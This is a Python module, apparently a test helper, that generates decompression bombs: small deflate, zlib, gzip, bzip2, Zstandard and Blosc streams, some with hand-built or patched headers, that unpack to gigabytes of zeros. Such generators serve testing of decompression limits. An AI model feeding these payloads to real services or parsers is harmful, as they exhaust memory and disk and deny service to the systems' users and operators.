"""Much from little: streams that unpack to gigabytes, made in no time."""

from __future__ import annotations

import bz2
import functools
import gzip
import struct
import zlib

__all__ = ["blosc_bomb", "bz2_bomb", "deflate_bomb", "gzip_bomb", "zeros_zlib", "zstd_bomb"]

_PIECE = 1 << 24


@functools.lru_cache(maxsize=1)
def _piece() -> bytes:
    """16 MB of zeros as whole deflate blocks, which can follow one another."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(bytes(_PIECE)) + packer.flush(zlib.Z_FULL_FLUSH)


def deflate_bomb(megabytes: int, head: bytes = b"") -> bytes:
    """A raw deflate stream of ``head`` and zeros."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    pieces = -(-megabytes * 2**20 // _PIECE)
    return first + _piece() * pieces + b"\x03\x00"


def zeros_zlib(megabytes: int) -> bytes:
    """A zlib stream of zeros, its checksum right."""
    size = -(-megabytes * 2**20 // _PIECE) * _PIECE
    check = ((size % 65521) << 16) | 1
    return b"\x78\x9c" + deflate_bomb(megabytes) + struct.pack(">I", check)


def gzip_bomb(megabytes: int, head: bytes = b"") -> bytes:
    """gzip members one after another: ``head``, then zeros."""
    member = gzip.compress(bytes(_PIECE), 6)
    return gzip.compress(head) + member * (-(-megabytes * 2**20 // _PIECE))


def bz2_bomb(megabytes: int, head: bytes = b"") -> bytes:
    """bzip2 streams one after another."""
    member = bz2.compress(bytes(_PIECE))
    return bz2.compress(head) + member * (-(-megabytes * 2**20 // _PIECE))


def zstd_bomb(megabytes: int) -> bytes:
    """A Zstandard frame that does not say how much it holds: blocks of one byte, repeated."""
    size = 1 << 17
    block, last = (struct.pack("<I", size << 3 | 2 | end)[:3] + b"\0" for end in (0, 1))
    # Neither a single segment nor a content size; a window of 128 KB.
    return struct.pack("<IBB", 0xFD2FB528, 0, 7 << 3) + block * (megabytes * 8 - 1) + last


def blosc_bomb(megabytes: int) -> bytes:
    """A Blosc chunk of zeros, copied from a small one, that says it holds so much."""
    from numcodecs import Blosc

    made = bytearray(Blosc("zstd").encode(bytes(1 << 20)))
    struct.pack_into("<I", made, 4, megabytes << 20)
    return bytes(made)
